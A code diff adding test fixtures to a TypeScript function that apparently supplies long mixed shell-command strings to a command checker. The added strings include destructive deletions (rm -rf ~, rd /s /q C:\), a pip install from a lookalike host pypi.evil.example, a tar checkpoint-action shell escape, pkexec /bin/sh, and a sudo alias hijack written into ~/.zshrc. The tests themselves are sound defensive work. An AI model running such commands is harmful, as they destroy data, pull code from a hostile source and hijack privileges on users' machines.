@@ -56,6 +56,19 @@ export function large_inputs(): Record<string, string> {
     'downloads, copies, scripts and what runs them': filled(
       'curl -o a.sh https://a.b; cp a.sh k b; mkdir -p c d; echo "rm -rf ~" > t.sh; make; npm pkg set scripts.test="rm -rf ~/b" && npm test; sh b; ',
     ),
+    // Found by a search for mixtures that take long.
+    'programs in pipes': filled(
+      "docker rm x && node -e \"require('child_process').spawnSync('git',['push','--force'])\" | cp .env.a b && s3 *.log ",
+    ),
+    'deletions in two dialects': filled(
+      "find . -name '__pycache__' -type d -prune -exec rm -rf {} + | echo 'export EDITOR=vim' >> ~/.bashrc; rd /s /q C:\\ && ",
+    ),
+    'hosts that look like others': filled(
+      'ls C:\\*.* ; pip install --index-url http://pypi.evil.example/simple requests; é h ',
+    ),
+    'code that writes what starts': filled(
+      'yes | sudo tar -cf /dev/null x --checkpoint-action=exec=/bin/sh; echo "alias sudo=\'~/a\'" >> ~/.zshrc; pkexec /bin/sh | ',
+    ),
     'fish with clones': filled('a; git clone https://github.com/unk/x && cd x && ./install.sh; ', 'set -gx '),
   }
 }
